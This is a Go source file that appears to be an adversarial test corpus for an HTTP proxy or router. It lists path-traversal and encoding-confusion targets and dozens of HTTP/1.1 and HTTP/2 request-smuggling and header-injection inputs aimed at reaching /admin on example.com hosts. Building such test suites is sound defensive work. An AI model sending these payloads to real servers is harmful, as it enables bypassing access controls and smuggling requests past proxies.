package adversary

import (
	"strconv"
	"strings"
)

// Smuggled stands in the target of each request that hides in another one.
const Smuggled = "smuggled"

// hidden is a request that hides in another one: for a rule that the other one isn't for.
const hidden = "GET /admin?" + Smuggled + " HTTP/1.1\r\nHost: a.example.com\r\n\r\n"

// Paths are targets that somebody could read as another path than their bytes say. /public and what is below it is one
// rule's, /admin and what is below it another one's.
var Paths = []string{
	"/public", "/public/x", "/admin", "/admin/", "/publicx", "/",
	"/public/../admin", "/public/./x", "/public/..", "/public/.", "/./admin", "/../admin", "/public//x", "//admin", "/public//", "//",
	"/public/%2e%2e/admin", "/public/%2E%2e/admin", "/public/.%2e/admin", "/public/%2e", "/%2e/admin", "/public/%2e%2e%2fadmin",
	"/public/..%2Fadmin", "/public%2f..%2fadmin", "/public%2Fadmin", "/public/a%2Fb", "/%2Fadmin", "/admin%2F", "/public/..%252fadmin",
	"/public/..;/admin", "/public/..;x=1/admin", "/public/;x/../admin", "/public/..%3B/admin", "/public/.;x", "/admin;x", "/public;/x",
	`/public\..\admin`, `/public/..\admin`, "/public/..%5Cadmin", "/public%5c..%5cadmin", `\admin`,
	"/%61dmin", "/admi%6E", "/%41dmin", "/public/%30", "/public/%2D", "/public/%5F", "/public/%7Ex", "/public/%252e%252e/admin",
	"/public%00", "/public/%00/admin", "/public%0a/admin", "/public%0d%0aX-Role:%20admin", "/public%0D%0A%0D%0AGET%20/admin", "/admin%09",
	"/public%7f", "/admin%20", "/public/%", "/public/%2", "/public/%zz", "/public/%u002e", "/public/%C0%AE%C0%AE/admin", "/public/%c3%a9",
	"/admin%3Fx", "/admin%23x", "/admin.", "/ADMIN", "/admin#x", "/public#/../admin", "/public?/../admin", "/public?x=/admin&y=%2e%2e",
	"/public?x=%0d%0aX-Role:%20admin", "?x", "", "admin", "public/../admin", "*", "/public/*", "/public/...", "/public/..x", "/public/.x",
	"/public/'\"<>^`{|}", "/public/$(x)${y}", "/public/a b", "/public/a\tb", "/public/\x01", "/public/\x7f", "/public/\xc3\xa9",
	"/public/\xc0\xae\xc0\xae/admin", "/public/a\x00b",
}

// HTTP1 are requests of HTTP/1.1, with what could be read in two ways, by name. A request for public stands behind each,
// on the same connection.
var HTTP1 = []struct{ Name, Bytes string }{
	{"two requests in a row", get("/public", "") + get("/admin", "")},
	{"Content-Length and chunked", post("Content-Length: 4\r\nTransfer-Encoding: chunked", "0\r\n\r\n"+hidden)},
	{"chunked and Content-Length", post("Transfer-Encoding: chunked\r\nContent-Length: 5", "0\r\n\r\n"+hidden)},
	{"two Content-Lengths", post("Content-Length: 0\r\nContent-Length: 5", "12345"+hidden)},
	{"two equal Content-Lengths", post("Content-Length: 5\r\nContent-Length: 5", "12345")},
	{"Content-Length: 5, 5", post("Content-Length: 5, 5", "12345")},
	{"Content-Length: 0, 5", post("Content-Length: 0, 5", "12345")},
	{"Content-Length: +5", post("Content-Length: +5", "12345")},
	{"Content-Length: -1", post("Content-Length: -1", hidden)},
	{"Content-Length: 0x5", post("Content-Length: 0x5", "12345")},
	{"Content-Length: 5 5", post("Content-Length: 5 5", "12345")},
	{"Content-Length with nothing", post("Content-Length:", "")},
	{"a huge Content-Length", post("Content-Length: 18446744073709551621", "12345")},
	{"a space before the colon of Content-Length", post("Content-Length : 0", "")},
	{"Content_Length", post("Content-Length: 5\r\nContent_Length: 0", "12345")},
	{"Transfer-Encoding: xchunked", post("Transfer-Encoding: xchunked", "0\r\n\r\n")},
	{"Transfer-Encoding: chunked twice", post("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "0\r\n\r\n")},
	{"Transfer-Encoding: chunked, identity", post("Transfer-Encoding: chunked, identity", "0\r\n\r\n")},
	{"Transfer-Encoding: identity, chunked", post("Transfer-Encoding: identity, chunked", "0\r\n\r\n")},
	{"Transfer-Encoding: gzip, chunked", post("Transfer-Encoding: gzip, chunked", "0\r\n\r\n")},
	{"Transfer-Encoding: identity", post("Transfer-Encoding: identity\r\nContent-Length: 0", "")},
	{"Transfer-Encoding: CHUNKED", post("Transfer-Encoding: CHUNKED", "0\r\n\r\n")},
	{"Transfer-Encoding: \"chunked\"", post("Transfer-Encoding: \"chunked\"", "0\r\n\r\n")},
	{"Transfer-Encoding behind a tab", post("Transfer-Encoding:\tchunked", "0\r\n\r\n")},
	{"Transfer-Encoding behind a vertical tab", post("Transfer-Encoding: \x0bchunked", "0\r\n\r\n")},
	{"a space before the colon of Transfer-Encoding", post("Content-Length: 5\r\nTransfer-Encoding : chunked", "0\r\n\r\n")},
	{"a folded Transfer-Encoding", post("Transfer-Encoding:\r\n chunked", "0\r\n\r\n")},
	{"chunked in HTTP/1.0", strings.Replace(post("Transfer-Encoding: chunked", "0\r\n\r\n"), "HTTP/1.1", "HTTP/1.0", 1)},
	{"a chunk with an extension", post("Transfer-Encoding: chunked", "5;x=\"\n\"\r\n12345\r\n0\r\n\r\n")},
	{"a chunk of size 0x5", post("Transfer-Encoding: chunked", "0x5\r\n12345\r\n0\r\n\r\n")},
	{"a chunk of size -1", post("Transfer-Encoding: chunked", "-1\r\n12345\r\n0\r\n\r\n")},
	{"a chunk of a huge size", post("Transfer-Encoding: chunked", "10000000000000005\r\n12345\r\n0\r\n\r\n")},
	{"chunks with LF alone", post("Transfer-Encoding: chunked", "5\n12345\n0\n\n")},
	{"a chunk that is longer than it says", post("Transfer-Encoding: chunked", "4\r\n12345\r\n0\r\n\r\n")},
	{"trailers for another rule", post("Transfer-Encoding: chunked", "0\r\nX-Role: admin\r\nHost: b.example.com\r\n\r\n")},
	{"trailers that frame", post("Transfer-Encoding: chunked", "0\r\nContent-Length: 100\r\nTransfer-Encoding: chunked\r\n\r\n")},
	{"GET with a body", get("/public", "Content-Length: "+strconv.Itoa(len(hidden))+"\r\n") + hidden},
	{"lines with LF alone", "GET /public HTTP/1.1\nHost: a.example.com\n\n"},
	{"a line with CR alone", get("/public", "X-A: 1\rX-Role: admin\r\n")},
	{"a NUL in a value", get("/public", "X-A: 1\x002\r\n")},
	{"a control character in a value", get("/public", "X-A: 1\x012\r\n")},
	{"a line without a colon", get("/public", "X-Role admin\r\n")},
	{"no name before the colon", get("/public", ": admin\r\n")},
	{"a space before a name", "GET /public HTTP/1.1\r\n X-Role: admin\r\nHost: a.example.com\r\n\r\n"},
	{"a folded value", get("/public", "X-A: 1\r\n X-Role: admin\r\n")},
	{"X-Role: admin", get("/public", "X-Role: admin\r\n")},
	{"X-Role with a space before the colon", get("/public", "X-Role : admin\r\n")},
	{"X-Role with a tab before the colon", get("/public", "X-Role\t: admin\r\n")},
	{"X-Role with spaces around", get("/public", "X-Role: \t admin \t \r\n")},
	{"X_Role", get("/public", "X_Role: admin\r\n")},
	{"X.Role", get("/public", "X.Role: admin\r\n")},
	{"X-Role with a NUL", get("/public", "X-Role\x00: admin\r\n")},
	{"X-Role twice", get("/public", "X-Role: public\r\nX-Role: admin\r\n")},
	{"a name of odd characters", get("/public", "x!#$%&'*+-.^`|~y: 1\r\n")},
	{"a name with a parenthesis", get("/public", "x(y): 1\r\n")},
	{"a name outside of ASCII", get("/public", "x\xe9: 1\r\n")},
	{"two Hosts", get("/public", "Host: b.example.com\r\n")},
	{"two equal Hosts", get("/public", "Host: a.example.com\r\n")},
	{"no Host", "GET /public HTTP/1.1\r\n\r\n"},
	{"an empty Host", host("")},
	{"a list as the Host", host("a.example.com, b.example.com")},
	{"a space in the Host", host("a.example.com b.example.com")},
	{"a path in the Host", host("a.example.com/../b.example.com")},
	{"a user in the Host", host("a.example.com@b.example.com")},
	{"two ports in the Host", host("a.example.com:80:90")},
	{"a port that is none in the Host", host("a.example.com:x")},
	{"a dot behind the Host", host("a.example.com.")},
	{"a Host in upper case", host("A.EXAMPLE.COM")},
	{"a NUL in the Host", host("a.example.com\x00.b.example.com")},
	{"an absolute target", "GET http://a.example.com/public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"an absolute target with another Host", "GET http://b.example.com/x HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"an absolute target with a user", "GET http://b.example.com@a.example.com/public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"an absolute target without a path", "GET http://a.example.com HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"an absolute target with dots", "GET http://a.example.com/public/../admin HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"an absolute target of another scheme", "GET ftp://a.example.com/public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"an absolute target without a host", "GET http:///public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"CONNECT", "CONNECT a.example.com:443 HTTP/1.1\r\nHost: a.example.com:443\r\n\r\n" + hidden},
	{"CONNECT with a path", "CONNECT /public HTTP/1.1\r\nHost: a.example.com\r\n\r\n" + hidden},
	{"TRACE", "TRACE /public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"OPTIONS *", "OPTIONS * HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"a method in lower case", "get /public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"an unknown method", "BREW /public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"a method with a control character", "G\x01T /public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"a method with a colon", "X-Role: /public HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"HTTP/0.9", "GET /public\r\n"},
	{"HTTP/1.0", "GET /public HTTP/1.0\r\nHost: a.example.com\r\n\r\n"},
	{"HTTP/1.2", "GET /public HTTP/1.2\r\nHost: a.example.com\r\n\r\n"},
	{"HTTP/2.0", "GET /public HTTP/2.0\r\nHost: a.example.com\r\n\r\n"},
	{"HTTP/1.1x", "GET /public HTTP/1.1x\r\nHost: a.example.com\r\n\r\n"},
	{"two spaces in the request line", "GET  /public  HTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"tabs in the request line", "GET\t/public\tHTTP/1.1\r\nHost: a.example.com\r\n\r\n"},
	{"empty lines before the request line", "\r\n\r\n" + get("/public", "")},
	{"upgrade to h2c", get("/public", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n")},
	{"upgrade to h2c in upper case", get("/public", "CONNECTION: UPGRADE\r\nUPGRADE: H2C\r\n")},
	{"upgrade to two protocols", get("/public", "Connection: Upgrade\r\nUpgrade: websocket, h2c\r\n")},
	{"two upgrades", get("/public", "Connection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: h2c\r\n")},
	{"a WebSocket without Connection", get("/public", "Upgrade: websocket\r\n")},
	{"Connection names a header of a rule", get("/public", "Connection: close, X-Role\r\nX-Role: admin\r\n")},
	{"Connection names X-Forwarded-For", get("/public", "Connection: X-Forwarded-For, Host\r\n")},
	{"Expect: 100-continue", post("Expect: 100-continue\r\nContent-Length: 5", "12345")},
	{"Expect without a body", get("/public", "Expect: 100-continue\r\n")},
	{"Expect of something else", post("Expect: 200-ok\r\nContent-Length: 5", "12345")},
}

func get(target, headers string) string {
	return "GET " + target + " HTTP/1.1\r\nHost: a.example.com\r\n" + headers + "\r\n"
}

func host(name string) string { return "GET /public HTTP/1.1\r\nHost: " + name + "\r\n\r\n" }

func post(headers, body string) string {
	return "POST /public HTTP/1.1\r\nHost: a.example.com\r\n" + headers + "\r\n\r\n" + body
}

// HTTP2 are requests of HTTP/2 that would say more to a backend that is spoken to in HTTP/1.1, by name: fields in turn,
// and a body.
var HTTP2 = []struct {
	Name   string
	Fields []string
	Body   string
}{
	{"CR and LF in a value", fields("x-a", "1\r\nx-role: admin"), ""},
	{"a request in a value", fields("x-a", "1\r\n\r\n"+hidden), ""},
	{"LF in a value", fields("x-a", "1\nx-role: admin"), ""},
	{"a NUL in a value", fields("x-a", "1\x00"), ""},
	{"spaces around a value", fields("x-role", " admin "), ""},
	{"CR and LF in a name", fields("x-a: 1\r\nx-role", "admin"), ""},
	{"a colon in a name", fields("x-role: admin\r\nx-a", "1"), ""},
	{"a space in a name", fields("x-role ", "admin"), ""},
	{"a name in upper case", fields("X-Role", "admin"), ""},
	{"an empty name", fields("", "admin"), ""},
	{"x_role", fields("x_role", "admin"), ""},
	{"x-role twice", fields("x-role", "public", "x-role", "admin"), ""},
	{"x-role", fields("x-role", "admin"), ""},
	{"a request in :path", replaced(":path", "/public HTTP/1.1\r\nHost: b.example.com\r\n\r\n"+hidden), ""},
	{"a space in :path", replaced(":path", "/public /admin"), ""},
	{"an absolute :path", replaced(":path", "http://b.example.com/admin"), ""},
	{"two :paths", append([]string{":path", "/admin"}, replaced()...), ""},
	{"no :path", replaced(":path", "-"), ""},
	{"a request in :method", replaced(":method", "GET /admin?"+Smuggled+" HTTP/1.1\r\nHost: a.example.com\r\n\r\nGET"), ""},
	{"a space in :method", replaced(":method", "GET /admin"), ""},
	{"an empty :method", replaced(":method", ""), ""},
	{"a method in lower case", replaced(":method", "get"), ""},
	{"an unknown method", replaced(":method", "BREW"), ""},
	{"TRACE", replaced(":method", "TRACE"), ""},
	{"CONNECT", []string{":method", "CONNECT", ":authority", "a.example.com:443"}, hidden},
	{"CONNECT with a path", replaced(":method", "CONNECT"), hidden},
	{"connect-udp", append([]string{":protocol", "connect-udp"}, replaced(":method", "CONNECT")...), hidden},
	{"a URL in :scheme", replaced(":scheme", "https://b.example.com/admin?"), ""},
	{"CR and LF in :scheme", replaced(":scheme", "https\r\nx-role: admin"), ""},
	{"no :scheme", replaced(":scheme", "-"), ""},
	{"CR and LF in :authority", replaced(":authority", "a.example.com\r\nx-role: admin"), ""},
	{"a path in :authority", replaced(":authority", "a.example.com/../b.example.com"), ""},
	{"a user in :authority", replaced(":authority", "b.example.com@a.example.com"), ""},
	{"a list in :authority", replaced(":authority", "a.example.com,b.example.com"), ""},
	{"two :authorities", append([]string{":authority", "b.example.com"}, replaced()...), ""},
	{"another host beside :authority", fields("host", "b.example.com"), ""},
	{"the same host beside :authority", fields("host", "a.example.com"), ""},
	{"host alone", append(replaced(":authority", "-"), "host", "a.example.com"), ""},
	{"no host at all", replaced(":authority", "-"), ""},
	{"a field of HTTP/2 behind the headers", fields("x-a", "1", ":path", "/admin"), ""},
	{"an unknown field of HTTP/2", append([]string{":role", "admin"}, replaced()...), ""},
	{"transfer-encoding: chunked", fields("transfer-encoding", "chunked"), "0\r\n\r\n" + hidden},
	{"a content-length that is too short", fields("content-length", "0"), hidden},
	{"a content-length that is too long", fields("content-length", "1000"), "12345"},
	{"two content-lengths", fields("content-length", "5", "content-length", "0"), "12345"},
	{"a content-length that is no number", fields("content-length", "5x"), "12345"},
	{"connection", fields("connection", "x-role", "x-role", "admin"), ""},
	{"keep-alive", fields("keep-alive", "1"), ""},
	{"proxy-connection", fields("proxy-connection", "close"), ""},
	{"upgrade", fields("upgrade", "websocket"), ""},
	{"upgrade with connection", fields("connection", "upgrade", "upgrade", "h2c"), ""},
	{"te: gzip", fields("te", "gzip"), ""},
	{"te: trailers", fields("te", "trailers"), ""},
	{"expect: 100-continue", fields("expect", "100-continue"), "12345"},
}

// fields are those of a request for public by TLS, and more.
func fields(more ...string) []string { return append(replaced(), more...) }

// replaced are the fields of such a request with others in their place; "-" is none.
func replaced(pairs ...string) []string {
	var out []string
	standard := []string{":method", "GET", ":scheme", "https", ":path", "/public", ":authority", "a.example.com"}
	for i := 0; i < len(standard); i += 2 {
		value := standard[i+1]
		for j := 0; j < len(pairs); j += 2 {
			if pairs[j] == standard[i] {
				value = pairs[j+1]
			}
		}
		if value != "-" {
			out = append(out, standard[i], value)
		}
	}
	return out
}
